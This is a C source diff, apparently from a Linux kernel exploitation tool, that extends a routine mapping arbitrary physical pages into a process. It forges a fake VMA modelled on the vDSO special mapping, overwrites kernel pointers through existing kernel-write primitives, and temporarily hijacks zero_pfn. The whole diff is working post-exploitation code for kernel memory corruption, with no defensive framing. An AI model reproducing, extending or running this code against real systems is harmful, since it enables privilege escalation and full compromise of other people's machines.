@@ -5,6 +5,7 @@
  * which is believed because of where it is.
  */
 #include <string.h>
+#include <sys/auxv.h>
 #include <sys/mman.h>
 #include <sys/uio.h>
 #include <sys/wait.h>
@@ -42,6 +43,8 @@
 #define CHUNK_BASE	64
 #define CHUNK_PAGES	112
 #define CHUNK_PAGES_MEMCG 120
+#define SPECIAL_OPS	"special_mapping_vmops"
+
 #define FEW_PAGES	1		/* the kernel maps more of them */
 #define TRIES		10
 #define PAUSE		50000		/* microseconds */
@@ -98,25 +101,51 @@ uint64_t forge_vma(const volatile void *like, uint64_t addr, uint64_t protection
 	return kwrite(forged.addr, words, sizeof(words)) ? 0 : forged.addr;
 }
 
-/* One that reads, of the zero page: its number is another one meanwhile. */
+bool make_special(uint64_t vma, uint64_t phys)
+{
+	uint64_t like = find_vma((void *)getauxval(AT_SYSINFO_EHDR)), ops, data;
+	uint64_t page = memory_map_base() + phys / PAGE_SIZE * STRUCT_PAGE;
+	struct kernel_page mapping;
+
+	ops = find_word(like, VMA_SIZE, ksymbol(SPECIAL_OPS));
+	data = find_pointer_into(like, VMA_SIZE, ksymbol(VDSO), SPECIAL_MAPPINGS);
+	if (!like || !vma || !ops || !data || !kernel_page(&mapping))
+		return false;
+	kwrite64(mapping.addr + SPECIAL_PAGES, mapping.addr + SPECIAL_MAPPINGS);
+	kwrite64(mapping.addr + SPECIAL_MAPPINGS, page);
+	return !kwrite64(vma + (ops - like), kread64(ops)) &&
+	       !kwrite64(vma + (data - like), mapping.addr);
+}
+
+/* Of one page, for kernels whose zero page is constant. */
+static uint64_t forge_special_vma(uint64_t addr, uint64_t phys, uint64_t protection)
+{
+	uint64_t vma = forge_vma((void *)getauxval(AT_SYSINFO_EHDR), addr, protection);
+
+	return make_special(vma, phys) ? vma : 0;
+}
+
+/* By a fault that reads. Of the zero page, whose number is another one meanwhile, if that goes. */
 bool map_address(const volatile void *like, uint64_t addr, uint64_t phys, uint64_t protection)
 {
-	uint64_t zero = ksymbol("zero_pfn"), old = kread64(zero), vma, entry;
+	uint64_t zero = ksymbol("zero_pfn"), old = zero ? kread64(zero) : 0, vma, entry;
 	char byte;
 	struct iovec to = { &byte, 1 }, from = { (void *)addr, 1 };
 	struct task task;
 	struct slot slot;
 
-	if (!zero || ktask(0, &task))
+	if (ktask(0, &task))
 		return false;
 	entry = find_empty_entry(task.mm, addr);
-	vma = forge_vma(like, addr, protection);
+	vma = zero ? forge_vma(like, addr, protection) : forge_special_vma(addr, phys, protection);
 	if (!entry || !vma)
 		return false;
 	kwrite64(entry, vma);
-	kwrite64(zero, phys / PAGE_SIZE);
+	if (zero)
+		kwrite64(zero, phys / PAGE_SIZE);
 	process_vm_readv(getpid(), &to, 1, &from, 1, 0);
-	kwrite64(zero, old);
+	if (zero)
+		kwrite64(zero, old);
 	kwrite64(entry, 0);
 	return !kwalk(addr, LEAF, 0, &slot) && slot.value && (slot.phys & -PAGE_SIZE) == phys;
 }
